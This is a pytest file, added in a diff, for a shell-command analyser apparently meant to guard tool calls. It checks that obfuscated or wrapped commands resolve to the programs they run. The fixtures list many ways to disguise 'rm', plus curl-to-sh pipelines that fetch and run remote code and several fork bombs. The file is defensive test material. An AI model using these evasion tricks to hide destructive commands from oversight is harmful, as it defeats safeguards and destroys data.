@@ -1,0 +1,246 @@
+"""What runs: each command with all its programs, wrappers and texts looked through."""
+
+from __future__ import annotations
+
+import pytest
+
+from toolguard_engine.shell.model import UNKNOWN
+from toolguard_engine.shell.unwrap import read
+
+U = UNKNOWN
+
+
+def ran(command: str) -> list[str]:
+    """The programs with their arguments, `?` for what is unknown, without those that only wrap others."""
+    return [" ".join(run.argv).replace(U, "?") for run in read(command).runs]
+
+
+LAST = {
+    # quoting and words
+    "rm -r 'a b'": "rm -r a b",
+    "r\"m\" -r x": "rm -r x",
+    "r\\m x": "rm x",
+    "$'\\x72\\x6d' x": "rm x",
+    "$'r\\155' x": "rm x",
+    "rm\\\n -r x": "rm -r x",
+    "rm${IFS}-r${IFS}x": "rm -r x",
+    "rm$IFS-r$IFS'x'": "rm -r x",
+    "{rm,-r,x}": "rm -r x",
+    "rm -{r,f} {a..c}": "rm -r -f a b c",
+    "echo {}": "echo {}",
+    "echo a{b}c": "echo a{b}c",
+    "rm !(keep)": "rm !*",
+    "echo '$HOME' \"\\$HOME\"": "echo $HOME $HOME",
+    "rm $HOME/x": "rm ~/x",
+    "rm \"${HOME}\"/x": "rm ~/x",
+    "rm x # and y": "rm x",
+    "rm a#b": "rm a#b",
+    # variables
+    "A=rm B=x; $A $B": "rm x",
+    "A='rm -r x'; $A": "rm -r x",
+    "A='rm -r x'; \"$A\"": "rm -r x",
+    "A=r; A+=m; $A x": "rm x",
+    "export A=rm; $A x": "rm x",
+    "A=xrmx; ${A:1:2} x": "rm x",
+    "A=rm.txt; ${A%.txt} x": "rm x",
+    "A=RM; ${A,,} x": "rm x",
+    "A=B; B=rm; ${!A} x": "rm x",
+    "${A:-rm} x": "rm x",
+    "read A; rm $A": "rm ?",
+    "rm $UNSET/x": "rm ?/x",
+    "rm \"$1\"": "rm ?",
+    # substitutions
+    "$(echo rm) x": "rm x",
+    "`echo rm` x": "rm x",
+    "$(printf '%s%s' r m) x": "rm x",
+    "$(echo cm0= | base64 -d) x": "rm x",
+    "$(echo 726d | xxd -r -p) x": "rm x",
+    "$(echo mr | rev) x": "rm x",
+    "$(which rm) x": "rm x",
+    "rm $(cat list)": "rm ?",
+    "rm $(basename /a/b)": "rm b",
+    # what is run by others
+    "sudo -u root rm x": "rm x",
+    "sudo -- rm x": "rm x",
+    "sudo A=b rm x": "rm x",
+    "env -i -u B A=1 rm x": "rm x",
+    "env -S 'rm x'": "rm x",
+    "nohup nice -n 19 rm x": "rm x",
+    "timeout -s KILL 5m rm x": "rm x",
+    "timeout --signal KILL 5m rm x": "rm x",
+    "time -p rm x": "-p rm x",
+    "command rm x": "rm x",
+    "exec -a y rm x": "rm x",
+    "busybox rm x": "rm x",
+    "chroot /mnt rm x": "rm x",
+    "sh -c 'rm x'": "rm x",
+    "bash -lc 'rm x'": "rm x",
+    "bash -o pipefail -c 'rm x'": "rm x",
+    "sh -c 'rm $0' x": "rm x",
+    "sh -c 'rm $1' sh x": "rm x",
+    "bash -c \"bash -c 'rm x'\"": "rm x",
+    "eval 'rm x'": "rm x",
+    "eval rm x": "rm x",
+    "trap 'rm x' EXIT": "rm x",
+    "su - u -c 'rm x'": "rm x",
+    "su -c'rm x' u": "rm x",
+    "runuser -u u -- rm x": "rm x",
+    "ssh -p 22 u@h rm x": "rm x",
+    "ssh h 'cd /; rm x'": "rm x",
+    "docker exec -it -u root c rm x": "rm x",
+    "docker run --rm -v a:b --name n img rm x": "rm x",
+    "docker compose exec db rm x": "rm x",
+    "kubectl exec -n ns pod -c c -- rm x": "rm x",
+    "find . -name '*.o' -exec rm {} +": "rm ./?",
+    "find /a /b -execdir rm {} \\;": "rm /b/?",
+    "fd -e o -x rm": "rm ./?",
+    "echo x | xargs rm": "rm x",
+    "echo x | xargs -I{} rm a/{}": "rm a/x",
+    "ls | xargs -0 -n 1 rm": "rm ?",
+    "ls | xargs sh -c 'rm $0'": "rm ?",
+    "parallel rm ::: x": "rm x",
+    "ls | parallel rm {}": "rm ?",
+    "watch -n 5 rm x": "rm x",
+    "flock /tmp/l rm x": "rm x",
+    "flock /tmp/l -c 'rm x'": "rm x",
+    "script -qc 'rm x' /dev/null": "rm x",
+    "npx rm x": "rm x",
+    "uv run rm x": "rm x",
+    "poetry run rm x": "rm x",
+    "git -c alias.z='!rm x' z": "rm x",
+    "git rebase --exec 'rm x' main": "rm x",
+    "git submodule foreach 'rm x'": "rm x",
+    "git bisect run rm x": "rm x",
+    "tmux new-session -d 'rm x'": "rm x",
+    "tar cf a.tar b --checkpoint-action=exec='rm x'": "rm x",
+    "nix-shell -p git --run 'rm x'": "rm x",
+    "echo 'rm x' | at now": "rm x",
+    "python3 -c 'import os; os.system(\"rm x\")'": "rm x",
+    "node -e 'require(\"child_process\").execSync(\"rm x\")'": "rm x",
+    # what arrives at a shell
+    "echo 'rm x' | sh": "rm x",
+    "echo 'rm x' | sudo bash -s": "rm x",
+    "printf 'rm %s' x | sh": "rm x",
+    "sh <<< 'rm x'": "rm x",
+    "sh <<X\nrm x\nX": "rm x",
+    "cat <<X | sh\nrm x\nX": "rm x",
+    "sh -s <<-X\n\trm x\n\tX": "rm x",
+    "A=x; sh <<X\nrm $A\nX": "rm x",
+    "source /dev/stdin <<< 'rm x'": "rm x",
+    # compound commands
+    "if true; then rm x; fi": "rm x",
+    "while true; do rm x; done": "rm x",
+    "for f in x; do rm $f; done": "rm x",
+    "for ((i=0;i<3;i++)); do rm x; done": "rm x",
+    "case $a in b) ls;; *) rm x;; esac": "rm x",
+    "{ rm x; }": "rm x",
+    "(cd a && rm x)": "rm x",
+    "f() { rm \"$1\"; }; f x": "rm x",
+    "function f { rm x; }; f": "rm x",
+    "f() { rm x; }": "rm x",
+    "alias r='rm -r'; r x": "rm -r x",
+    "[[ -e x ]] && rm x": "rm x",
+    "ls |\n rm x": "rm x",
+    "ls; rm x &": "rm x",
+    "! rm x": "rm x",
+    "until rm x\ndo :\ndone": ":",
+    "select f in x; do rm $f; done": "rm x",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("command", "last"), LAST.items(), ids=list(LAST))
+def test_the_last_program_that_runs(command: str, last: str) -> None:
+    found = ran(command)
+    assert found[-1] == last
+    assert not read(command).flaws
+
+
+ALL = {
+    "echo $((1+$(rm x)))": ["rm x", "echo 0"],
+    "diff <(rm x) y": ["rm x", "diff ? y"],
+    'echo "a $(rm x) b" > `rm y`': ["rm y", "rm x", "echo a ? b"],
+    "cat <<X\n$(rm x)\nX": ["rm x", "cat"],
+    "cat <<'X'\n$(rm x)\nX": ["cat"],
+    "echo 'rm x'": ["echo rm x"],
+    "A='rm x'": [],
+    "if [ -f a ]; then rm a; else rm b; fi": ["[ -f a ]", "rm a", "rm b"],
+    "if a; then T=/; else T=/tmp; fi; rm $T": ["a", "rm /", "rm /tmp"],
+    "for f in a b; do rm $f; done": ["rm a", "rm b"],
+    "xargs rm < list": ["xargs rm", "rm ?"],
+    "> x": [":"],
+    "rm x; }; rm y": ["rm x", "rm y"],
+    "": [],
+    "   \n\t # nothing\n": [],
+}
+
+
+@pytest.mark.parametrize(("command", "expected"), ALL.items(), ids=list(ALL))
+def test_all_programs_that_run(command: str, expected: list[str]) -> None:
+    assert ran(command) == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "via"),
+    [
+        ("sudo env A=1 nice rm x", ("sudo", "env", "nice")),
+        ("ssh h 'sudo rm x'", ("ssh", "sudo")),
+        ("bash -c 'echo $(rm x)'", ("bash", "$()")),
+        ("f() { rm x; }; f", ("()",)),
+        ("rm x", ()),
+    ],
+)
+def test_what_it_is_wrapped_in(command: str, via: tuple[str, ...]) -> None:
+    assert next(run.via for run in read(command).runs if run.name == "rm") == via
+
+
+@pytest.mark.parametrize(
+    ("command", "cwd"),
+    [
+        ("rm x", ""), ("cd a; rm x", "a"), ("cd /a && cd b && rm x", "/a/b"), ("(cd /a); rm x", ""), ("cd; rm x", "~"),
+        ("cd $X && rm x", U), ("cd -; rm x", U), ("pushd /a; rm x", "/a"), ("bash -c 'cd /a; rm x'", "/a"),
+        ("cd /a; ssh h rm x", ""),
+    ],
+)  # fmt: skip
+def test_where_it_runs(command: str, cwd: str) -> None:
+    assert next(run.cwd for run in read(command).runs if run.name == "rm") == cwd
+
+
+def test_pipelines_and_feeds() -> None:
+    curl, sed, shell = read("curl -s https://a.test/x | sed s/a/b/ | sh; true").runs[:3]
+    assert (curl.piped, sed.piped, shell.piped) == (True, True, False)
+    assert curl.pipeline == sed.pipeline == shell.pipeline
+    assert shell.stdin is not None
+    assert shell.stdin.programs == ("curl", "sed")
+
+
+def test_a_word_knows_what_made_it() -> None:
+    run = next(run for run in read('sh -c "$(curl -s https://a.test)"').runs if run.name == "sh")
+    assert [(at, feed.programs) for at, feed in run.given] == [(2, ("curl",))]
+
+
+@pytest.mark.parametrize(
+    ("command", "flaw"),
+    [
+        ("echo 'a", "broken"), ('echo "a', "broken"), ("echo $(a", "broken"), ("(a", "broken"), ("if a; then b", "broken"),
+        ("a )", "broken"), ("cat <<X\na", "broken"), ("f('x')", "broken"), ("echo " + "$(" * 60, "deep"),
+        ("eval " * 60, "deep"), ("sudo " * 60 + "ls", "deep"), ("a;" * 5000, "long"), ("a " * 40_000, "long"),
+        ("A=ab;" + "A=$A$A;" * 40 + "$A", ""),
+    ],
+    ids=range(14),
+)  # fmt: skip
+def test_what_cannot_be_read_whole(command: str, flaw: str) -> None:
+    assert read(command).flaws == ({flaw} if flaw else set())
+
+
+def test_a_fork_bomb_is_known_by_what_it_does() -> None:
+    for text in (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; };f"):
+        assert "fork-bomb" in [run.name for run in read(text).runs]
+    assert "fork-bomb" not in [run.name for run in read('walk() { for d in a; do walk "$d"; done; }; walk .').runs]
+
+
+def test_variables_of_the_call_itself() -> None:
+    assert [run.argv for run in read("$T x", (("T", "rm"),)).runs] == [("rm", "x")]
+
+
+def test_a_sentinel_in_the_text_is_no_sentinel() -> None:
+    assert ran(f"rm a{U}b") == ["rm a?b"]
